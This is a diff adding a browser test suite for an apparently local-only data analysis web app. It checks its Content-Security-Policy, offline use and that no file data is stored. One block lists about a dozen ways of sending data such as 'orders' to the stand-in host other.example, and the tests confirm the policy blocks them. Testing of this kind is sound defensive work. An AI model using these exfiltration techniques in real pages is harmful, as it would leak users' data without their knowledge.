@@ -1,0 +1,188 @@
+// Nothing leaves the machine: the policy, what it refuses, what the service worker counts, and work without a line. That
+// no page, worker or service worker asks another server for anything is checked by the harness in every test of every
+// file here; this one looks at what must be refused.
+import assert from "node:assert/strict";
+import { after, before, test } from "node:test";
+import { installed, launch, onPage, until } from "./harness.mjs";
+import { CDNOW, choose, drop, drawn, fromMenu, open, openSample, overview, read, started } from "./steps.mjs";
+
+let app;
+before(async () => (app = await launch()));
+after(() => app?.close());
+
+// Word for word from DESIGN.md.
+const POLICY = "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; img-src 'self' blob:; connect-src 'self'; object-src 'none'; base-uri 'none'";
+const footer = (page) => page.getByRole("contentinfo");
+const none = (page) => footer(page).getByText("0 requests to other servers").waitFor();
+
+test("the policy is the design's, as a header with frame-ancestors and as <meta>; nothing else loosens it", () =>
+  onPage(app, {}, async (page) => {
+    const response = await page.reload();
+    assert.equal(response.headers()["content-security-policy"], `${POLICY}; frame-ancestors 'none'`);
+    assert.equal(await page.locator("meta[http-equiv=Content-Security-Policy]").getAttribute("content"), POLICY);
+    assert.equal(response.headers()["referrer-policy"], "no-referrer");
+    for (const path of ["engine-worker.js", "sw.js", "engine.js"]) {
+      const headers = await page.evaluate(async (path) => Object.fromEntries((await fetch(path, { cache: "reload" })).headers), path);
+      assert.equal(headers["content-security-policy"], `${POLICY}; frame-ancestors 'none'`, path);
+    }
+  }));
+
+test("the footer counts 0 requests through the whole use of the page", () =>
+  onPage(app, {}, async (page) => {
+    await started(page);
+    await installed(page);
+    await none(page);
+    assert.match(await read(footer(page)), /works offline/);
+    await openSample(page);
+    await overview(page, "sample-orders.csv");
+    await drop(page, CDNOW);
+    await overview(page, "cdnow_sample.csv");
+    await fromMenu(page, "The whole report (JSON)");
+    await page.keyboard.press("Escape");
+    await page.getByRole("combobox", { name: "Period" }).selectOption("week");
+    await page.getByRole("img", { name: /1 week later/ }).first().waitFor();
+    await page.getByRole("combobox", { name: "Language" }).selectOption("فارسی");
+    await drawn(page);
+    await page.getByRole("combobox", { name: "زبان" }).selectOption("English");
+    await page.getByRole("button", { name: "Forget this file" }).click();
+    await none(page);
+  }));
+
+/** Ways in which a page could send something away, each tried in the page. */
+const WAYS = {
+  fetch: () => fetch("https://other.example/fetch").catch(() => undefined),
+  XMLHttpRequest: () =>
+    new Promise((resolve) => {
+      const request = new XMLHttpRequest();
+      request.onloadend = resolve;
+      request.open("POST", "https://other.example/xhr");
+      request.send("orders");
+    }).catch(() => undefined),
+  sendBeacon: () => navigator.sendBeacon("https://other.example/beacon", "orders"),
+  WebSocket: () =>
+    new Promise((resolve) => {
+      try {
+        new WebSocket("wss://other.example/socket").onclose = resolve;
+      } catch {
+        resolve();
+      }
+    }),
+  EventSource: () => new Promise((resolve) => (new EventSource("https://other.example/events").onerror = resolve)),
+  image: () => new Promise((resolve) => (Object.assign(new Image(), { src: "https://other.example/image" }).onerror = resolve)),
+  script: () =>
+    new Promise((resolve) => {
+      const script = Object.assign(document.createElement("script"), { src: "https://other.example/script.js", onerror: resolve });
+      document.head.append(script);
+    }),
+  "inline script": () => {
+    const script = Object.assign(document.createElement("script"), { textContent: "globalThis.ran = true" });
+    document.head.append(script);
+    if (globalThis.ran) throw new Error("it ran");
+  },
+  stylesheet: () =>
+    new Promise((resolve) => {
+      const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://other.example/style.css", onerror: resolve });
+      document.head.append(link);
+    }),
+  font: () => new FontFace("other", "url(https://other.example/font.woff2)").load().catch(() => undefined),
+  frame: () =>
+    new Promise((resolve) => {
+      const frame = Object.assign(document.createElement("iframe"), { src: "https://other.example/frame" });
+      frame.onload = resolve;
+      document.body.append(frame);
+    }),
+  module: () => import("https://other.example/module.js").catch(() => undefined),
+  "worker from a blob": () =>
+    new Promise((resolve) => {
+      const address = URL.createObjectURL(new Blob(["fetch('https://other.example/')"], { type: "text/javascript" }));
+      new Worker(address).onerror = resolve;
+    }),
+};
+
+test("whatever the page tried to send is refused, and never reaches the network", async () => {
+  const context = await app.context({ locale: "en-GB" });
+  try {
+    const page = await context.newPage();
+    const violations = [];
+    await context.exposeBinding("policyViolation", (_, text) => violations.push(text));
+    await context.addInitScript(() => addEventListener("securitypolicyviolation", ({ effectiveDirective }) => globalThis.policyViolation(effectiveDirective)));
+    await page.goto(app.url);
+    await open(page, CDNOW);
+    for (const [way, attempt] of Object.entries(WAYS)) {
+      const before = violations.length;
+      await page.evaluate(attempt);
+      await until(page, () => true); // the violation's event comes in a task of its own
+      for (const end = Date.now() + 5_000; violations.length === before && Date.now() < end; ) await page.evaluate(() => new Promise(requestAnimationFrame));
+      assert.ok(violations.length > before, `${way} is refused`);
+    }
+    assert.deepEqual(app.foreign, []);
+    // The page goes on as if nothing had been.
+    await none(page);
+    assert.equal((await fromMenu(page, "The whole report (JSON)")).name, "report.json");
+  } finally {
+    await context.close();
+  }
+});
+
+test("a request that a host without headers lets through is stopped by the service worker and shown in the footer", async () => {
+  const plain = await launch({ headers: false });
+  try {
+    await onPage(plain, { expect: /ERR_FAILED/ }, async (page, context) => {
+      await started(page);
+      await installed(page);
+      await none(page);
+      context.removeAllListeners("request"); // the attempt itself is meant
+      const worker = page.workers()[0] ?? (await page.waitForEvent("worker"));
+      const refused = () => worker.evaluate(() => fetch("https://other.example/").then(() => false, () => true));
+      assert.equal(await refused(), true);
+      await footer(page).getByText("1 request to other servers").waitFor();
+      assert.equal(await refused(), true);
+      await footer(page).getByText("2 requests to other servers").waitFor();
+    });
+  } finally {
+    await plain.close();
+  }
+});
+
+for (const base of ["/", "/shop/tools/"]) {
+  test(`without a line, from ${base}: the sample, a file, charts and downloads`, async () => {
+    const there = base === "/" ? app : await launch({ base });
+    try {
+      await onPage(there, {}, async (page) => {
+        await started(page);
+        await installed(page);
+        there.offline(true);
+        await page.reload();
+        await started(page);
+        await openSample(page);
+        await overview(page, "sample-orders.csv");
+        await choose(page, [CDNOW], "Open another file");
+        await overview(page, "cdnow_sample.csv");
+        const { bytes } = await fromMenu(page, "The whole report (JSON)");
+        assert.equal(JSON.parse(bytes).summary.customers, 2357);
+        await none(page);
+        // analyze() for developers as well.
+        const customers = await page.evaluate(async () => {
+          const { analyze } = await import(new URL("retention-engine.js", document.baseURI).href);
+          return (await analyze("customer,date,amount\na,2024-01-05,10\n")).summary.customers;
+        });
+        assert.equal(customers, 1);
+      });
+    } finally {
+      there.offline(false);
+      if (there !== app) await there.close();
+    }
+  });
+}
+
+test("nothing of a file is kept in the browser", () =>
+  onPage(app, {}, async (page) => {
+    await open(page, CDNOW);
+    const kept = await page.evaluate(async () => {
+      const addresses = [];
+      for (const name of await caches.keys()) for (const { url } of await (await caches.open(name)).keys()) addresses.push(new URL(url).pathname);
+      return { local: Object.keys(localStorage), session: Object.keys(sessionStorage), databases: await indexedDB.databases(), cookies: document.cookie, addresses };
+    });
+    assert.deepEqual([kept.local, kept.session, kept.databases, kept.cookies], [[], [], [], ""]);
+    assert.ok(kept.addresses.every((path) => !path.includes("cdnow")));
+  }));
